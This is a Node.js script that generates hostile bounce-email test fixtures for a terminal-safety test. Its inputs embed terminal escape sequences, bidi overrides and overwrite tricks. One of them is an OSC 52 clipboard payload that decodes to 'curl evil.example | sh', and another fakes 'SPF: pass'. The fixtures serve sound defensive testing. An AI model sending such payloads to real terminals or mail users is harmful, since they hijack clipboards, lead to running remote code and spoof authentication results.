#!/usr/bin/env node
/**
 * Writes test/fixtures/hostile/*.eml: bounces whose attacker-chosen parts
 * (subject, display names, diagnostic text, recipient address, encoded words,
 * base64 and quoted-printable bodies) carry terminal control sequences, bidi
 * overrides and invisible characters. test/safety/terminal.test.ts runs each
 * through bin/ndr.js. Run again after changing a case: node scripts/make-hostile-fixtures.mjs
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

const dir = fileURLToPath(new URL('../test/fixtures/hostile/', import.meta.url));
const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;
const CSI_CLEAR = `${ESC}[2J${ESC}[H`;
const OSC8 = `${ESC}]8;;https://evil.example/${ST}click me${ESC}]8;;${ST}`;
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==${BEL}`;
const TITLE = `${ESC}]0;pwned${BEL}`;
const DCS = `${ESC}P1$r0m${ST}`;
const RLO = '\u202e';
const ZW = '\u200b\u200d\u2060\ufeff';

const b64 = (s) => Buffer.from(s, 'utf8').toString('base64').replace(/.{76}/g, '$&\n');
const word = (s) => `=?utf-8?B?${Buffer.from(s, 'utf8').toString('base64')}?=`;
const qp = (s) =>
  [...Buffer.from(s, 'utf8')]
    .map((b) =>
      b === 0x0a ? '\n' : b < 33 || b > 126 || b === 61 ? `=${b.toString(16).toUpperCase().padStart(2, '0')}` : String.fromCharCode(b),
    )
    .join('');

/** A multipart/report bounce; `text` is the human part (already encoded), `dsn` the delivery-status fields. */
function report({
  subject,
  from = 'Mail Delivery System <MAILER-DAEMON@mx.example.org>',
  text,
  textHeaders = 'Content-Type: text/plain; charset=utf-8',
  rcpt = 'user@example.com',
  diag,
  original = '',
}) {
  return [
    `From: ${from}`,
    'To: sender@example.net',
    `Subject: ${subject}`,
    'Date: Sat, 21 Nov 2026 10:00:00 +0000',
    'MIME-Version: 1.0',
    'Content-Type: multipart/report; report-type=delivery-status; boundary="b1"',
    '',
    '--b1',
    textHeaders,
    '',
    text,
    '',
    '--b1',
    'Content-Type: message/delivery-status',
    '',
    'Reporting-MTA: dns; mx.example.org',
    '',
    `Final-Recipient: rfc822; ${rcpt}`,
    'Action: failed',
    'Status: 5.1.1',
    `Diagnostic-Code: smtp; ${diag}`,
    '',
    '--b1',
    'Content-Type: text/rfc822-headers',
    '',
    original || ['From: Sender <sender@example.net>', `To: ${rcpt}`, 'Subject: hello', 'Message-ID: <1@example.net>'].join('\n'),
    '',
    '--b1--',
    '',
  ].join('\n');
}

const cases = {
  // Raw CSI, OSC 8, OSC 52, title change and DCS in the subject, display name and diagnostic.
  'raw-sequences.eml': report({
    subject: `Undelivered Mail ${CSI_CLEAR}${TITLE}`,
    from: `"Postmaster ${ESC}[8m" <MAILER-DAEMON@mx.example.org>`,
    text: `Your message could not be delivered.\n${OSC8}\n${OSC52}\n${DCS}`,
    diag: `550 5.1.1 <user@example.com>: Recipient address rejected ${ESC}[1A${ESC}[2K${OSC52}`,
  }),
  // RFC 2047 encoded words that decode to ESC, C1 and bidi overrides (subject, display names, returned headers).
  'encoded-words.eml': report({
    subject: word(`Undeliverable: ${ESC}[31mURGENT${RLO}fdp.exe`),
    from: `${word(`Mail ${ESC}]0;x${BEL}Delivery`)} <MAILER-DAEMON@mx.example.org>`,
    text: 'The following message could not be delivered.',
    diag: '550 5.1.1 user unknown',
    original: [
      'From: ' + word(`Boss \u009b31m${RLO}`) + ' <boss@example.net>',
      'To: user@example.com',
      `Subject: ${word(`Invoice ${ESC}[2J${ZW}`)}`,
    ].join('\n'),
  }),
  // A base64 human part whose text carries ESC sequences and a bidi override.
  'base64-body.eml': report({
    subject: 'Delivery Status Notification (Failure)',
    textHeaders: 'Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64',
    text: b64(`Delivery to user@example.com failed.\n550 5.1.1 ${ESC}[2J${ESC}[H${OSC8} ${RLO}gnp.exe\n${OSC52}\n`),
    diag: '550 5.1.1 user unknown',
  }),
  // A quoted-printable part with ESC, DCS, UTF-8 encoded C1 (CSI U+009B, OSC U+009D) and invisible characters.
  'qp-body.eml': report({
    subject: 'Returned mail: see transcript for details',
    textHeaders: 'Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable',
    text: qp(`Delivery failed: 550 5.1.1 ${ESC}[31mred${ESC}[0m ${DCS} \u009b2J \u009d0;t\u009c ${ZW}hidden\n`),
    diag: '550 5.1.1 user unknown',
  }),
  // Bare CR and backspace overwrites that would make a line read "SPF: pass". A raw bare CR is a
  // line end to the parser, so the CR also comes encoded (RFC 2047 word, quoted-printable).
  'overwrite.eml': report({
    subject: word('Undeliverable\rSPF: pass                '),
    textHeaders: 'Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable',
    text: qp('Delivery has failed: 550 5.7.1 rejected.\nSPF: fail\rSPF: pass\nDMARC: fail\b\b\b\bpass\n'),
    diag: `550 5.7.1 rejected by policy\rOK: delivered           \b\b\b\b`,
  }),
  // 8-bit C1 bytes in a Latin-1 part and diagnostic (0x9B is CSI, 0x9D OSC in 8-bit terminals).
  'c1-latin1.eml': report({
    subject: 'Mail delivery failed',
    textHeaders: 'Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: 8bit',
    text: 'Delivery failed: 550 5.1.1 \u009b2J\u009d0;pwned\u0007 \u0085next',
    diag: '550 5.1.1 \u009b31mred\u009b0m',
  }),
  // Control and bidi characters in the recipient address itself.
  'recipient.eml': report({
    subject: 'Undeliverable: hello',
    text: `Delivery to the following recipient failed permanently:\n\n    "us${ESC}[8mer${RLO}"@example.com\n`,
    rcpt: `"us${ESC}[8mer${RLO}"@example.com`,
    diag: `550 5.1.1 <"us${ESC}[8mer${RLO}"@example.com>: Recipient address rejected: ${ZW}`,
  }),
};

mkdirSync(dir, { recursive: true });
for (const [name, text] of Object.entries(cases)) {
  // Latin-1 where the case says so, so that C1 characters become single 8-bit bytes.
  const bytes = name.includes('latin1') ? Buffer.from(text, 'latin1') : Buffer.from(text, 'utf8');
  writeFileSync(new URL(name, `file://${dir}`), bytes);
}
console.log(`wrote ${Object.keys(cases).length} files to ${dir}`);
